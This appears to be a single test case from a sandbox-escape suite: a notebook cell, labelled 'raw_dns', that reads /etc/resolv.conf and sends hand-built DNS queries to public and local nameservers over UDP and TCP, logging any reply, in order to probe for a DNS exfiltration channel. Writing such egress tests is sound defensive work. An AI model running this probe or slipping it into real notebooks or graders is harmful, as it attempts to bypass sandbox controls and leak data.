# ATTACK: raw_dns
# KIND: cell
# BASE: wrong
# NEEDS: any
# TRIES: Ask name servers by hand-made packets, over UDP and TCP, the answers smuggling data out.
# MUST: Score exactly that of the same notebook without this cell.
# SIGN: SAW answer .*
import socket, struct
question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x08attacked\x07example\x03org\0" + struct.pack(">HH", 1, 1)
servers = ["1.1.1.1", "8.8.8.8", "127.0.0.53"]
try: servers += [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
except OSError: pass
for server in servers:
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            with socket.socket(socket.AF_INET, kind) as link:
                link.settimeout(1); link.connect((server, 53))
                link.send(question if kind == socket.SOCK_DGRAM else struct.pack(">H", len(question)) + question)
                print("SAW answer", len(link.recv(512)), server)
        except OSError: pass
